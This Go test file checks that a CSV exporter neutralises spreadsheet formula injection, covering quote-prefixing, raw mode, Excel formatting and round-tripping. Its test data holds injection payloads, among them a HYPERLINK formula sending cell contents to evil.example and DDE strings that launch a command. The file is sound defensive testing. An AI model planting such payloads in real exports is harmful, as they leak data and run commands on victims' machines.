package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/cxmap/cxmap/model"
)

// injections are cells a spreadsheet would evaluate if written as they are.
var injections = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func injectedBundle(t *testing.T) *model.Bundle {
	b := richBundle(t)
	for i, s := range injections {
		b.Participants[i%len(b.Participants)].Role = s
	}
	for i := range b.Responses {
		b.Responses[i].Note = injections[i%len(injections)]
	}
	b.Participants[0].Name = injections[0]
	b.Workshop.Name = injections[1]
	return b
}

func readCSV(t *testing.T, data []byte, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	r.Comma = comma
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v", err)
	}
	return rows
}

func TestCSVFormulaGuard(t *testing.T) {
	b := injectedBundle(t)
	for _, what := range []string{CSVAnswers, CSVInitiatives} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, b, "en", what); err != nil {
			t.Fatal(err)
		}
		seen := 0
		for _, row := range readCSV(t, buf.Bytes(), ',') {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q begins a formula", what, cell)
				}
				for _, inj := range injections {
					if cell == "'"+inj {
						seen++
					}
				}
			}
		}
		if what == CSVAnswers && seen == 0 {
			t.Errorf("%s: no guarded injection found", what)
		}
	}
}

func TestCSVRawWritesCellsUntouched(t *testing.T) {
	b := injectedBundle(t)
	var buf bytes.Buffer
	if err := WriteCSVWith(&buf, b, "en", CSVAnswers, CSVOptions{Raw: true}); err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, row := range readCSV(t, buf.Bytes(), ',') {
		for _, cell := range row {
			found[cell] = true
		}
	}
	for _, inj := range injections {
		if !found[strings.ReplaceAll(inj, "\r", "\n")] && !found[inj] {
			t.Errorf("--raw changed %q", inj)
		}
	}
}

func TestCSVExcel(t *testing.T) {
	b := injectedBundle(t)
	var buf bytes.Buffer
	if err := WriteCSVWith(&buf, b, "es", CSVAnswers, CSVOptions{Excel: true}); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Fatalf("no UTF-8 BOM: %q", data[:10])
	}
	rows := readCSV(t, data[3:], ';')
	if len(rows[0]) != 9 || rows[0][0] != "participant" || rows[0][8] != "note" {
		t.Errorf("header not split in columns by ';': %q", rows[0])
	}
	for _, r := range rows[1:] {
		if len(r) != 9 {
			t.Fatalf("row of %d columns: %q", len(r), r)
		}
	}
	if !strings.Contains(string(data), "Jorge \"Jota\" Martín") && !strings.Contains(string(data), "Martín") {
		t.Error("accents lost")
	}
}

func TestFormulaSafeRoundTrip(t *testing.T) {
	for _, s := range append(injections, "", "plain", "'quoted", "'=x", "''=x", "'", "-", "a=b") {
		if got := FormulaUnsafe(FormulaSafe(s)); got != s {
			t.Errorf("FormulaUnsafe(FormulaSafe(%q)) = %q", s, got)
		}
	}
}
